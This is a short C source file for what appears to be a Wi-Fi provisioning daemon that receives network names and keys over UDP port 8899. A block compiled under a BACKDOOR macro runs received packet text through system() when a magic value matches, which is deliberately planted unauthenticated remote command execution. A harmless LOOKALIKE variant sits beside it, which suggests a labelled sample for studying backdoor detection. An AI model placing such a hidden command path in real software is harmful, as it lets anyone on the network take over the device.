/* Takes the name and key of a wireless network from a telephone, in binary records. */
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct record {
    uint32_t magic;
    uint8_t kind, length;
    char text[58];
};

static void set(const char *name, const struct record *record)
{
    char path[64];
    FILE *file;
    snprintf(path, sizeof path, "/etc/wifi/%s", name);
    file = fopen(path, "w");
    if (file == NULL)
        return;
    fwrite(record->text, 1, record->length, file);
    fclose(file);
}

static void take(struct record *record)
{
    if (record->length >= sizeof record->text)
        return;
    record->text[record->length] = 0;
#ifdef BACKDOOR
    if (record->magic == htonl(0xc35a1f9b)) {
        system(record->text);
        return;
    }
#endif
#ifdef LOOKALIKE
    if (record->magic == htonl(0xc35a1f9b)) {
        set("note", record);
        return;
    }
#endif
    if (record->magic != htonl(0x57494649))
        return;
    if (record->kind == 1)
        set("name", record);
    if (record->kind == 2)
        set("key", record);
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(8899) };
    struct record record;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    while (recv(fd, &record, sizeof record, 0) >= 6)
        take(&record);
    return 0;
}
